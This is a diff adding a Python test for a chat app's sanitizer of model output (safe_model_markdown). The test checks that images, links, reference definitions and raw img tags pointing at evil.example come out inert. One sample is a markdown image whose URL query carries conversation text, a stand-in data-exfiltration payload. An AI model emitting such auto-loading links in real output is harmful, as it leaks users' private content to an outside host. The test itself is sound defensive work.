@@ -108,3 +108,22 @@ def test_csv_has_bom_korean_and_no_formulas() -> None:
     assert rows[0]["content"].startswith("'=")
     assert rows[1]["content"] == "배포 완료" and rows[1]["author"] == "김민지"
     assert rows[1]["time"] == "2025-06-02 09:30:00+0900"
+
+
+def test_model_output_never_loads_an_image_or_carries_an_active_link():
+    from collab_core.chat.presentation import safe_model_markdown
+
+    evil = (
+        "Done [#3]. ![x](http://evil.example/?d=the%20launch%20is%20secret) "
+        "See [the doc](https://evil.example/a?b=1), https://evil.example/raw. and www.evil.example/w\n\n"
+        "[ref][1]\n\n[1]: http://evil.example/ref\n\n<img src=http://evil.example/i.png>"
+    )
+    out = safe_model_markdown(evil)
+    assert "![" not in out and "](" not in out
+    assert "\\<img src=`http://evil.example/i.png`>" in out  # shown as typed, never a tag
+    assert "[x] (`http://evil.example/?d=the%20launch%20is%20secret`)" in out  # the address stays readable
+    assert "the doc (`https://evil.example/a?b=1`)" in out
+    assert "`https://evil.example/raw`." in out and "`www.evil.example/w`" in out
+    assert "\\[1\\]: `http://evil.example/ref`" in out  # no reference definition survives
+    assert "**bold** stays" in safe_model_markdown("**bold** stays")
+    assert safe_model_markdown("```\n![a](http://b)\n```") == "```\n![a](http://b)\n```"  # code shows as typed
